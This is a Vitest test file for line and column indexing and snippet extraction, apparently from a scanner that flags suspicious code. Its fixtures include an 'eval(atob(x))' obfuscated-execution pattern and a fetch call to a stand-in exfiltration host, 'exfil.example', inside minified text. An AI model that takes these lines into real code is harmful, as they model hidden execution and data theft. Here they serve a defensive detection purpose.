import { describe, expect, it } from 'vitest';
import { LineIndex, snippet } from './lines.js';

describe('LineIndex', () => {
  it('maps offsets to 1-based line and column across \\n, \\r\\n and \\r', () => {
    const text = 'ab\ncd\r\nef\rgh';
    const index = new LineIndex(text);
    expect(index.lineCount).toBe(4);
    expect(index.locate(0)).toEqual({ line: 1, column: 1 });
    expect(index.locate(2)).toEqual({ line: 1, column: 3 });
    expect(index.locate(3)).toEqual({ line: 2, column: 1 });
    expect(index.locate(text.indexOf('e'))).toEqual({ line: 3, column: 1 });
    expect(index.locate(text.indexOf('h'))).toEqual({ line: 4, column: 2 });
    expect(index.lineBounds(2)).toEqual({ start: 3, end: 5 });
  });

  it('counts columns in UTF-16 code units and clamps out-of-range offsets', () => {
    const text = '😀é x\ny';
    const index = new LineIndex(text);
    expect(index.locate(text.indexOf('x'))).toEqual({ line: 1, column: 5 });
    expect(index.locate(-5)).toEqual({ line: 1, column: 1 });
    expect(index.locate(1e9)).toEqual({ line: 2, column: 2 });
  });

  it('agrees with a naive count on a large text', () => {
    const text = Array.from({ length: 5000 }, (_, i) => 'x'.repeat(i % 37)).join('\n');
    const index = new LineIndex(text);
    for (const offset of [0, 1, 999, 12_345, 54_321, text.length - 1]) {
      const before = text.slice(0, offset);
      const line = before.split('\n').length;
      const column = offset - (before.lastIndexOf('\n') + 1) + 1;
      expect(index.locate(offset)).toEqual({ line, column });
    }
  });
});

describe('snippet', () => {
  it('returns a short line whole, trimmed', () => {
    const text = 'first\n    eval(atob(x));  \nlast';
    expect(snippet(text, text.indexOf('eval'), text.indexOf(';'))).toBe('eval(atob(x));');
  });

  it('cuts a long minified line around the match with ellipses, within max', () => {
    const text = `${'a=1;'.repeat(5000)}fetch("https://exfil.example/x")${';b=2'.repeat(5000)}`;
    const start = text.indexOf('fetch');
    const s = snippet(text, start, start + 'fetch("https://exfil.example/x")'.length);
    expect(s.startsWith('…')).toBe(true);
    expect(s.endsWith('…')).toBe(true);
    expect(s.length).toBeLessThanOrEqual(160);
    expect(s).toContain('fetch("https://exfil.example/x")');
  });

  it('keeps the start of a match longer than max in view', () => {
    const text = `${'x;'.repeat(1000)}payload(${'9'.repeat(1000)})${';y'.repeat(1000)}`;
    const start = text.indexOf('payload');
    const s = snippet(text, start, start + 1010, 80);
    expect(s.length).toBeLessThanOrEqual(80);
    expect(s).toContain('payload(');
    expect(s.startsWith('…')).toBe(true);
  });

  it('needs no leading ellipsis near the start of the line, nor a trailing one near its end', () => {
    const text = `go();${'z'.repeat(500)}`;
    const head = snippet(text, 0, 4, 40);
    expect(head.startsWith('go();')).toBe(true);
    expect(head.endsWith('…')).toBe(true);
    expect(head.length).toBe(40);
    const tail = snippet(text, text.length - 2, text.length, 40);
    expect(tail.startsWith('…')).toBe(true);
    expect(tail.endsWith('zz')).toBe(true);
    expect(tail.length).toBe(40);
  });

  it('shows only the first line of a match that spans lines, and never splits a surrogate pair', () => {
    expect(snippet('a\nfunction f() {\n  x();\n}\n', 2, 24)).toBe('function f() {');
    const text = '😀'.repeat(200);
    for (const at of [0, 101, 200, 399]) {
      const s = snippet(text, at, at + 1, 21);
      expect(s.replace(/…/g, '')).toMatch(/^(?:\uD83D\uDE00)+$/);
    }
  });
});
